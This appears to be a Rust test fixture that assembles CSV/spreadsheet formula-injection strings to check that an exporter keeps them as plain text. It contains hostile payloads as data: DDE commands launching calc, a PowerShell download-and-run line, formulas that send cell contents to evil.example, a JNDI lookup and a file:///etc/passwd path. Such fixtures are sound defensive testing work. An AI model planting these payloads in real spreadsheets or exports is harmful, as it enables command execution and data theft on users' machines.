//! Strings that try to become more than text in a spreadsheet: each has to come out as it went in.

/// What may stand in front, so that a guard overlooks what follows.
const FRONTS: [&str; 13] =
    ["", " ", "\u{A0}", "\t", "\n", "\r", "\0", "\u{200F}", "\u{FEFF}", "'", "''", "\" ", "\u{2028}"];

/// What a spreadsheet would run.
const FORMULAS: [&str; 11] = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example/\"&B2)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C powershell IEX(wget evil.example/a)'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u{FF1D}1+2",
    "\u{FF20}SUM(A1)",
];

/// Everything else that one might try.
const OTHERS: [&str; 45] = [
    "1+2",
    "00123",
    "1-2",
    "2024-01-02",
    "1E5",
    "TRUE",
    "#REF!",
    "#N/A",
    "{=1+2}",
    "<f>1+2</f>",
    "</t></is></c><c r=\"A1\"><f>1+2</f></c>",
    "]]><f>1</f>",
    "&#61;1+2",
    "&equals;1",
    "_x003D_1+2",
    "_x0000_",
    "_x005F_x003D_",
    "a_x0041_b",
    "\u{1}\u{2}\u{1F}",
    "\u{7F}\u{85}",
    "\u{FFFE}",
    "\u{FFFF}a",
    "\u{202E}=1+2",
    "\u{2066}=1+2\u{2069}",
    "\u{202B}\u{200F}=2",
    "a\u{202E}b\u{202C}c",
    "\u{61C}-1",
    "\u{200B}=1+2",
    "\u{180E}=1+2",
    "\u{3000}=1+2",
    "\";=1+2",
    ",=1+2",
    "a\",\"=1+2\",\"",
    "a\r\n=1+2",
    "a\n\n=1+2\n",
    "sep=;",
    "ID",
    "javascript:alert(1)",
    "https://evil.example/",
    "file:///etc/passwd",
    "mailto:a@evil.example",
    "\\\\evil.example\\share",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "'",
];

/// All of them.
pub fn all() -> Vec<String> {
    let guarded = FRONTS.iter().flat_map(|front| FORMULAS.iter().map(move |formula| format!("{front}{formula}")));
    let mut strings: Vec<String> = guarded.chain(OTHERS.iter().map(ToString::to_string)).collect();
    strings.push(format!("={}", "A".repeat(40_000)));
    strings.push("\u{1F600}".repeat(20_000));
    strings.push("قال ".repeat(9_000));
    strings
}
